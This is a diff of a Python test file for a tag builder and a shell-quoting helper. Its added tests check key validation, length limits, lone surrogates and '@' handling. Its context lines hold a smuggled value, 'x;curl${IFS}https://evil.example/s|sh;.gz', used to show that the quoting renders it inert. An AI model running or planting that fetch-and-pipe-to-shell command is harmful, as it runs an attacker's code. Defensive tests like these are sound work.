@@ -188,6 +188,19 @@ def test_tag_cuts_a_long_value_and_keeps_long_values_apart():
 def test_tag_refuses_a_key_that_is_not_a_tag_key():
     with pytest.raises(ValueError, match="start with a letter"):
         tag("1account", "x")
+    with pytest.raises(ValueError, match="hold no colon"):
+        tag("source:ip", "x")
+
+
+def test_tag_of_exactly_the_limit_is_kept_whole():
+    value = "v" * (TAG_LIMIT - len("vpc_id:"))
+    assert tag("vpc_id", value) == f"vpc_id:{value}"
+
+
+def test_tag_of_a_long_value_with_a_lone_surrogate_is_cut_like_any_other():
+    first, second = tag("log_group", "a" * 300 + "\ud800"), tag("log_group", "a" * 300 + "\udfff")
+    assert len(first) == TAG_LIMIT and first.startswith("log_group:aaaa") and "..." in first
+    assert first != second
 
 
 @given(st.sampled_from(["aws_account", "region", "vpc_id"]), values)
@@ -210,6 +223,11 @@ def test_shell_quote_keeps_a_lone_percent_readable():
     assert shell_quote("s3://b/a%%%b") == "$'s3://b/a\\x25\\x25\\x25b'"
 
 
+def test_shell_quote_of_a_key_with_a_mention_keeps_its_letters_readable():
+    word = shell_quote("s3://b/X-caf\u00e9-@here.gz")
+    assert word.startswith("$'s3://b/X-caf\u00e9-") and word.endswith("here.gz'") and "@" not in word
+
+
 def test_shell_quote_of_the_issue_key_is_one_inert_word():
     uri = "s3://archive/x;curl${IFS}https://evil.example/s|sh;.gz"
     assert shlex.split(f"aws s3 cp {shell_quote(uri)} -") == ["aws", "s3", "cp", uri, "-"]
@@ -218,6 +236,8 @@ def test_shell_quote_of_the_issue_key_is_one_inert_word():
 @given(ANY_TEXT.filter(lambda s: "\x00" not in s and not any(0xD800 <= ord(c) <= 0xDFFF for c in s)))
 @example("x;curl${IFS}https://evil.example/s|sh;.gz")
 @example("key with @here and %%% and \u202e and \n")
+@example("X'\\\u00e9@")
+@example("\x80 and \x7f")
 # Each example starts a bash process: its time is the machine's load, not the code's.
 @settings(max_examples=50, deadline=None)
 def test_shell_quote_names_exactly_the_value_in_bash(value):
